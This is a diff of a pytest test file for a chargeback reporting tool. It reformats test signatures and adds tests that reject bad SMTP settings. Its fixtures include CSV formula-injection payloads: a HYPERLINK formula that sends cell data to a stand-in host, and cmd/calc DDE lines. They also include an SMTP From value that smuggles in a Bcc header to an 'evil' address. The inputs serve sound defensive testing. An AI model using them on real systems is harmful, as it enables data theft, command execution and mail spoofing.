@@ -64,9 +64,7 @@ OPTION_CASES = [
 
 
 @pytest.mark.parametrize(("extra", "code", "place"), OPTION_CASES)
-def test_bad_options_are_refused_by_name(
-    ws: Path, extra: list[str], code: int, place: str
-) -> None:
+def test_bad_options_are_refused_by_name(ws: Path, extra: list[str], code: int, place: str) -> None:
     before = kept(ws)
     assert_refused(run(report(ws, "--format", "csv", *extra)), place, code=code, untouched=before)
 
@@ -183,9 +181,7 @@ TEMPLATE_CASES = [
 
 
 @pytest.mark.parametrize(("addition", "said"), TEMPLATE_CASES)
-def test_templates_are_untrusted_code(
-    ws: Path, tmp_path: Path, addition: str, said: str
-) -> None:
+def test_templates_are_untrusted_code(ws: Path, tmp_path: Path, addition: str, said: str) -> None:
     folder = _templates(tmp_path, "\n" + addition + "\n")
     before = kept(ws)
     result = run(report(ws, "--format", "html", "--period", "2026-03", "--templates", str(folder)))
@@ -279,7 +275,7 @@ def test_an_untouched_closed_month_verifies(ws: Path) -> None:
 # --------------------------------------------------------------------------- CSV formulas
 
 EVIL = [
-    "=HYPERLINK(\"http://x.example/?\"&A1,\"x\")",
+    '=HYPERLINK("http://x.example/?"&A1,"x")',
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -364,3 +360,54 @@ def test_every_csv_is_written_by_the_one_writer() -> None:
         if path.name != "csvwrite.py" and writers.search(path.read_text())
     ]
     assert found == []
+
+
+# --------------------------------------------------------------------------- SMTP settings
+
+SMTP_CASES = [
+    (
+        {"CHARGEBACK_SMTP_FROM": "a@example.com\r\nBcc: x@evil.example"},
+        True,
+        "CHARGEBACK_SMTP_FROM",
+    ),
+    ({"CHARGEBACK_SMTP_FROM": "not an address"}, True, "CHARGEBACK_SMTP_FROM"),
+    ({"CHARGEBACK_SMTP_HOST": "mail example.com"}, False, "CHARGEBACK_SMTP_HOST"),
+    (
+        {"CHARGEBACK_SMTP_HOST": "mail.example.com", "CHARGEBACK_SMTP_PORT": "99999"},
+        False,
+        "CHARGEBACK_SMTP_PORT",
+    ),
+    (
+        {"CHARGEBACK_SMTP_HOST": "mail.example.com", "CHARGEBACK_SMTP_SECURITY": "tls13"},
+        False,
+        "CHARGEBACK_SMTP_SECURITY",
+    ),
+    (
+        {"CHARGEBACK_SMTP_HOST": "mail.example.com", "CHARGEBACK_SMTP_TIMEOUT": "nan"},
+        False,
+        "CHARGEBACK_SMTP_TIMEOUT",
+    ),
+    (
+        {"CHARGEBACK_SMTP_HOST": "mail.example.com", "CHARGEBACK_SMTP_USER": "bot"},
+        False,
+        "CHARGEBACK_SMTP_PASSWORD",
+    ),
+]
+
+
+@pytest.mark.parametrize(("env", "dry", "place"), SMTP_CASES)
+def test_bad_mail_settings_from_the_environment_are_named(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, env: dict[str, str], dry: bool, place: str
+) -> None:
+    rules = GOOD_RULES.replace(
+        "cost_center: CC-100}", "cost_center: CC-100, recipients: [a@example.com]}"
+    )
+    root = workspace(tmp_path / "ws", rules)
+    (root / "out").mkdir()
+    (root / "out" / "keep.txt").write_text("x")
+    for key, value in env.items():
+        monkeypatch.setenv(key, value)
+    before = kept(root)
+    args = ["send", "--period", "2026-03", "--workspace", root, "--out", root / "out"]
+    result = run([*args, *(["--dry-run"] if dry else [])])
+    assert_refused(result, place, untouched=before)
